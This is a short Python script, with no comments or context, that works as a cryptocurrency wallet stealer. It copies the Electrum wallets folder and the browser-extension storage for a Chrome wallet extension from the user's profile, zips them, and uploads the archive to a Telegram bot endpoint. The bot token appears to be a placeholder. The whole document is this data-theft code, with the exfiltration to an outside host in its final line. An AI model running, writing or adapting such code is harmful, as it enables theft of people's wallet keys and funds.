import os, shutil, tempfile, requests
targets = [
    os.path.join(os.getenv("APPDATA", ""), "Electrum", "wallets"),
    os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn"),
]
out = tempfile.mkdtemp()
for t in targets:
    if os.path.isdir(t):
        shutil.copytree(t, os.path.join(out, os.path.basename(t)))
arc = shutil.make_archive(out, "zip", out)
requests.post("https://api.telegram.org/bot6000000000:AAHk-examplePlaceholderTokenValue12/sendDocument", data={"chat_id": "100200300"}, files={"document": open(arc, "rb")})
